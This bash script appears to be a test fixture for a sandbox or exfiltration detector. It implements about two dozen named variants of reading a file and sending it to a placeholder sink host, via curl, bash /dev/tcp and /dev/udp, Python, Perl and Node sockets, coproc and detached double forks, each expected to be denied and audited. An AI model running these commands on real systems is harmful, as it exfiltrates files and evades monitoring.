#!/bin/bash
# Thefts as people write them in shells. `shapes.sh --list` prints a line of JSON a fixture, as evade.py does.
# What each sends is read to its end; a shell that was stopped in the middle is no failure of the fixture's.
set -u
post() { curl -s --max-time 5 -o /dev/null --data-binary @- "http://$SINK/x"; }

while read -r name row what; do
  case "${1-}" in
  --list)
    printf '{"name":"%s","row":"%s","what":"%s","enforce":"deny","audit":"found","twin":"pass","why":null}\n' "$name" "$row" "$what"
    ;;
  esac
done <<'LIST'
to_curl B36 cat FILE | curl -d @-
variable B36 X=$(cat FILE); curl -d $X
variable_read B36 X=$(<FILE); curl -d $X
here_document B36 curl <<END with $(cat FILE)
here_string B36 curl <<< $(<FILE)
substituted B36 curl -d @<(cat FILE)
substituted_out B36 cat FILE > >(curl -d @-)
by_xargs B36 xargs -a FILE curl -d
background B36 cat FILE in the background, curl in the foreground
by_nohup B36 nohup, setsid and a double fork
descriptor B36 exec 3< FILE; curl <&3
by_environment B36 X=$(cat FILE) env curl with $X
by_dd B36 dd | curl
by_tar B36 tar | gzip | curl
by_sed B36 sed | curl
by_openssl B36 openssl enc | curl
by_while B36 while read; do curl; done
by_python B36 python3 -c, which reads and sends
by_perl B36 perl -e, which reads and sends
by_node B36 node -e, which reads and sends
by_tcp B36 bash's own /dev/tcp
by_udp B36 bash's own /dev/udp
by_upload B36 curl -T FILE
by_form B36 curl -F f=@FILE
by_coproc B36 coproc cat FILE; curl <&COPROC
LIST

case "${1-}" in
to_curl) cat "$FILE" | post ;;
variable) X=$(cat "$FILE"); curl -s --max-time 5 -o /dev/null -d "$X" "http://$SINK/x" ;;
variable_read) X=$(<"$FILE"); curl -s --max-time 5 -o /dev/null -d "$X" "http://$SINK/x" ;;
here_document) post <<END
$(cat "$FILE")
END
  ;;
here_string) post <<<"$(<"$FILE")" ;;
substituted) curl -s --max-time 5 -o /dev/null --data-binary @<(cat "$FILE") "http://$SINK/x" ;;
substituted_out) exec 4> >(post); reader=$!; cat "$FILE" >&4; exec 4>&-; wait "$reader" ;;
by_xargs) xargs -d '\n' -n 9 -a "$FILE" sh -c 'curl -s --max-time 5 -o /dev/null -d "$*" "http://$SINK/x"' sh ;;
background) cat "$FILE" >"$TMPDIR/copy" & wait; post <"$TMPDIR/copy" ;;
by_nohup) nohup setsid sh -c '(cat "$FILE" >"$TMPDIR/copy"; : >"$TMPDIR/done") &' >/dev/null 2>&1
  while [ ! -e "$TMPDIR/done" ]; do sleep 0.02; done
  (setsid sh -c 'curl -s --max-time 5 -o /dev/null --data-binary "@$TMPDIR/copy" "http://$SINK/x"; : >"$TMPDIR/sent"' &)
  while [ ! -e "$TMPDIR/sent" ] && [ "$SECONDS" -lt 8 ]; do sleep 0.02; done ;;
descriptor) exec 3<"$FILE"; post <&3 ;;
by_environment) X=$(cat "$FILE") sh -c 'curl -s --max-time 5 -o /dev/null -d "$X" "http://$SINK/x"' ;;
by_dd) dd if="$FILE" 2>/dev/null | post ;;
by_tar) tar -cf - -C "$(dirname "$FILE")" "$(basename "$FILE")" | gzip -c | gzip -dc | post ;;
by_sed) sed -n p "$FILE" | post ;;
by_openssl) openssl enc -base64 -in "$FILE" | openssl enc -base64 -d | post ;;
by_while) while read -r line; do curl -s --max-time 5 -o /dev/null -d "$line" "http://$SINK/x"; done <"$FILE" ;;
by_python) python3 -S -c '
import os, socket
host, port = os.environ["SINK"].rsplit(":", 1)
s = socket.create_connection((host, int(port)), timeout=5)
s.sendall(open(os.environ["FILE"], "rb").read()); s.shutdown(1)' ;;
by_perl) perl -MIO::Socket::INET -e '
open(F, "<", $ENV{FILE}) or die; local $/; my $x = <F>;
my $s = IO::Socket::INET->new(PeerAddr => $ENV{SINK}, Timeout => 5) or exit 0; print $s $x; close $s' ;;
by_node) node -e '
const [host, port] = process.env.SINK.split(":");
const s = require("net").connect(port, host, () => s.end(require("fs").readFileSync(process.env.FILE)));
s.on("error", () => {}); setTimeout(() => process.exit(), 4000).unref()' ;;
by_tcp) cat "$FILE" >"/dev/tcp/${SINK%:*}/${SINK##*:}" ;;
by_udp) cat "$FILE" >"/dev/udp/${SINK%:*}/${SINK##*:}" ;;
by_upload) curl -s --max-time 5 -o /dev/null -T "$FILE" "http://$SINK/x" ;;
by_form) curl -s --max-time 5 -o /dev/null -F "f=@$FILE" "http://$SINK/x" ;;
by_coproc) coproc READER { cat "$FILE"; }; post <&"${READER[0]}" ;;
--list) ;;
*) echo "no such fixture: ${1-}" >&2; exit 2 ;;
esac
exit 0
